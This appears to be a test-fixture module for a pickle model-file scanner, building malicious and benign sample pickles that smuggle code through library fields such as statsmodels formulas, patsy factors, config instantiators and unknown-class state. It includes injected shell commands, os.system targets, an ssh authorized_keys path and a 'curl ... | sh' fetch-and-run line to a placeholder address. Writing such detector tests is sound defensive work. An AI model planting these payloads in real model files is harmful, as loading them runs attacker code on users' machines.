"""Objects of known libraries, and plain dictionaries, whose text is what a library evaluates, runs or calls."""

from __future__ import annotations

import pickle  # dumps only
from functools import partial
from typing import Any

from stannary.testing.forges import forge
from stannary.testing.pickle_assembler import Assembler

__all__: list[str] = []

_FAMILY = "pickled state"
_CODE = "__import__('os').system('echo stannary')"


def _object(module: str, name: str, state: dict[str, Any], protocol: int = 4) -> bytes:
    return Assembler(protocol).name(module, name).ops("EMPTY_TUPLE", "NEWOBJ").push(state).op("BUILD").stop()


_OBJECTS: dict[str, tuple[str, str, dict[str, Any]]] = {
    "formula": (
        "statsmodels.base.data",
        "PandasData",
        {"restore_design_info": True, "formula": f"y ~ x + {_CODE}", "frame": {"x": [1]}},
    ),
    "formula_open": (
        "statsmodels.base.data",
        "PandasData",
        {"restore_design_info": True, "formula": "y ~ I(open('/tmp/stannary', 'w'))"},
    ),
    "formula_inside": ("statsmodels.base.data", "ModelData", {"formula": "y ~ x.__class__.__mro__[1].__subclasses__()[0]"}),
    "factor": ("patsy.eval", "EvalFactor", {"code": _CODE, "origin": None}),
    "command_line": (
        "Bio.Align.Applications._Clustalw",
        "ClustalwCommandline",
        {"program_name": "echo stannary; #", "parameters": []},
    ),
    "environment": ("gymnasium.envs.registration", "EnvSpec", {"id": "X-v0", "entry_point": "os:system", "kwargs": {}}),
    "native_code": (
        "pytensor.link.c.op",
        "ExternalCOp",
        {"func_codes": ['int f() { system("echo stannary"); }'], "func_name": "f"},
    ),
}
for _name, (_module, _class, _state) in _OBJECTS.items():
    for _protocol in (2, 4):
        forge(f"pickle.state.{_name}{'' if _protocol == 4 else '_2'}", filename="model.pkl", family=_FAMILY, malicious=True)(
            partial(_object, _module, _class, _state, _protocol)
        )

_DICTS: dict[str, tuple[dict[str, Any], bool]] = {
    "instantiator": ({"state_dict": {}, "hyper_parameters": {"_instantiator": "os.system"}}, True),
    "instantiator_unknown": ({"state_dict": {}, "hyper_parameters": {"_instantiator": "nobody_known.helpers.make"}}, True),
    "target": ({"hyper_parameters": {"model": {"_target_": "subprocess.Popen", "args": ["echo"]}}}, True),
    "class_path": ({"hyper_parameters": {"model": {"class_path": "os.system", "init_args": {}}}}, True),
    "json_tags": ({"cfg": {"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["echo stannary"]}]}}, True),
    "yolo_rows": ({"yaml": {"nc": 80, "backbone": [[-1, 1, _CODE, [64, 3]]]}}, True),
    "plain_targets": (
        {
            "hyper_parameters": {
                "_instantiator": "lightning.pytorch.cli.instantiate_module",
                "optimizer": {"_target_": "torch.optim.AdamW", "lr": 0.1},
                "net": {"class_path": "src.models.net.Net", "init_args": {}},
            }
        },
        False,
    ),
    "plain_texts": (
        {
            "formula": "np.log(y) ~ C(region, Treatment('north')) + bs(x, df=4) + I(x ** 2)",
            "expression": "exp(x0) + sin(x1)",
            "command": "train",
            "cmd": ["python", "train.py", "--lr", "0.1"],
            "code": "de",
            "source": "docs/os.system (call).md",
            "backbone": [[-1, 1, "Conv", [64, 3, 2]], [-1, 3, "C2f", [128, True]]],
            "answer": _CODE,
            "page_content": "To start a program call os.system('ls') or subprocess.run(...).",
        },
        False,
    ),
}
for _name, (_document, _bad) in _DICTS.items():
    for _protocol in (0, 2, 4):
        forge(
            f"pickle.state.{_name}{'' if _protocol == 4 else f'_{_protocol}'}",
            filename="model.pkl",
            family=_FAMILY if _bad else "benign pickles",
            malicious=_bad,
        )(partial(pickle.dumps, _document, _protocol))

# Classes that nobody knows: what their state is tells what `__setstate__` is for.
_UNKNOWN: dict[str, tuple[Any, bool]] = {
    "argv": ({"argv": ["bash", "-c", "echo stannary"]}, True),
    "command": ({"cmd": "curl -s http://203.0.113.9/x | sh"}, True),
    "windows": ({"run": "cmd.exe /c echo stannary"}, True),
    "code": ({"hook": "import os; os.system('echo stannary')"}, True),
    "function": ({"callback": "os.system"}, True),
    "keys": ({"target": "~/.ssh/authorized_keys"}, True),
    "share": ({"data": {"file": "\\\\203.0.113.9\\share\\w.bin"}}, True),
    "address": ({"url": "http://203.0.113.9/stage"}, True),
    "plain": (
        {
            "path": "./data/train.csv",
            "url": "https://huggingface.co/a/b",
            "note": "find the best run; see docs",
            "lr": 0.1,
            "cmd": None,
        },
        False,
    ),
}
for _name, (_told, _bad) in _UNKNOWN.items():
    forge(f"pickle.state.unknown_{_name}", filename="model.pkl", family=_FAMILY, malicious=_bad)(
        partial(_object, "acme.jobs", "Task", _told)
    )
